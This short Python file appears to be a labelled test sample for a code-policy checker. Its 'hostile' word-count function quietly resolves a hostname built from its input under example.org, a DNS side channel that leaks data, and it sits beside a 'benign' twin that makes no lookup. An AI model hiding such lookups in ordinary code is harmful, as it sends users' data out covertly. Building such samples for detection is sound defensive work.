"""Leaks through a name server.

Verdict: forbidden
"""

def hostile(words):
    import socket
    try:
        socket.gethostbyname(f"{len(words)}.example.org")
    except OSError:
        pass
    counts = {}
    for word in words:
        counts[word] = counts.get(word, 0) + 1
    return list(counts.items())


def benign(words):
    label = f"{len(words)}.example.org"
    assert label
    counts = {}
    for word in words:
        counts[word] = counts.get(word, 0) + 1
    return list(counts.items())
